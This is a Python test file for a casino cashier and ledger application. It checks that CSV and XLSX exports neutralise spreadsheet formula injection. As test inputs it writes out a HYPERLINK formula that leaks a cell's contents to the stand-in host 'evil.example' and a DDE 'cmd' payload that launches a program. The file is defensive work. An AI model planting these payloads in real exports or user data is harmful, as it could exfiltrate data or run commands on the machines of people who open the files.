"""Formula injection: a text a spreadsheet would run as a formula (it starts with = + - @, a tab
or a carriage return) is written as text — a leading apostrophe — in every CSV the casino
writes (the export's aml.csv, the exception log, the cage's reports) and is stored as a value,
never a formula, in an XLSX. Amounts keep their sign."""

import csv
import io
import zipfile

import pytest
from openpyxl import Workbook

from cashier.services.cage import chips_purchase
from cashier.spreadsheet import _as_text
from ledger.export.writer import export_zip_stream
from ledger.gaming_day import current_gaming_day
from ledger.spreadsheet_cells import safe_cell
from patrons.services.patrons import patron_register
from tests.conftest import ACTOR, client_as, staff_user

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_text_starting_like_a_formula_is_quoted_as_text(start):
    assert safe_cell(f"{start}cmd|' /C calc'!A0") == f"'{start}cmd|' /C calc'!A0"


@pytest.mark.parametrize("value", [-1250, "-1250", "-12.50", "+3", 0, None, "Jean Dupont", "a=b"])
def test_numbers_and_ordinary_texts_are_left_as_they_are(value):
    assert safe_cell(value) == value


@pytest.mark.django_db
def test_the_exports_aml_csv_writes_a_formula_like_name_as_text(cage):
    code = patron_register(kind="identified", name=HYPERLINK, document="@SUM(1+1)", actor=ACTOR)["patron"]
    chips_purchase(patron=code, amount_cents=350_000, actor=ACTOR)  # 3,500 EUR: in the AML log
    archive = zipfile.ZipFile(io.BytesIO(b"".join(export_zip_stream(current_gaming_day(), include_identity=True))))
    rows = list(csv.reader(io.StringIO(archive.read("aml.csv").decode())))
    ours = [row for row in rows if code in row]
    assert ours and all(f"'{HYPERLINK}" in row and "'@SUM(1+1)" in row for row in ours)
    cells = [cell for row in rows for cell in row]
    assert not any(cell[:1] in ("=", "@", "+", "\t", "\r") for cell in cells)
    postings = list(csv.reader(io.StringIO(archive.read("postings.csv").decode())))
    assert ["cage:chips", "-350000"] in [row[1:3] for row in postings]  # amounts keep their sign


@pytest.mark.django_db
def test_the_exception_log_csv_writes_a_formula_like_reason_as_text(api, table):
    coup = api.post("/api/tables/R1/rounds", {}, format="json").json()["round"]
    assert api.post(f"/api/rounds/{coup}/void", {"reason": HYPERLINK}, format="json").status_code == 200
    auditor = client_as(staff_user("aud1", "auditor"))
    response = auditor.get("/api/audit/exceptions.csv", {"gaming_day": current_gaming_day().isoformat()})
    assert response.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(response.content.decode())) for cell in row]
    assert any(HYPERLINK in cell for cell in cells)
    assert not any(cell[:1] in ("=", "@", "+", "\t", "\r") for cell in cells)


def test_an_xlsx_cell_given_a_formula_like_text_keeps_it_as_a_value():
    sheet = Workbook().active
    sheet.append(["name", HYPERLINK, -1250])
    assert sheet["B1"].data_type == "f"  # what openpyxl would store
    _as_text(sheet)
    assert (sheet["B1"].data_type, sheet["B1"].value, sheet["C1"].value) == ("s", HYPERLINK, -1250)
